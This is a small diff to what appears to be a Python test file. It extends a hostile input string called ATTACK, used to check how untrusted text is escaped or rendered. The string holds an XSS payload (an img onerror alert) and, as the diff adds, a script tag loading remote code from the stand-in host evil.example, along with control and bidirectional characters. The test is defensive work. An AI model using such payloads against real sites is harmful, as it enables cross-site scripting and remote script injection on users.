@@ -227,7 +227,7 @@ def passed_run() -> tuple[MemorySource, dict[str, Any]]:
     return source, verdict
 
 
-ATTACK = "\x00\x1b[31m[red]</script><img src=x onerror=alert(1)>$$x$$ \\(y\\)\u202e'\"&<!--"
+ATTACK = "\x00\x1b[31m[red]</script><img src=x onerror=alert(1)><script src=http://evil.example/s></script>$$x$$ \\(y\\)\u202e'\"&<!--"
 
 
 def hostile_run() -> tuple[MemorySource, dict[str, Any]]:
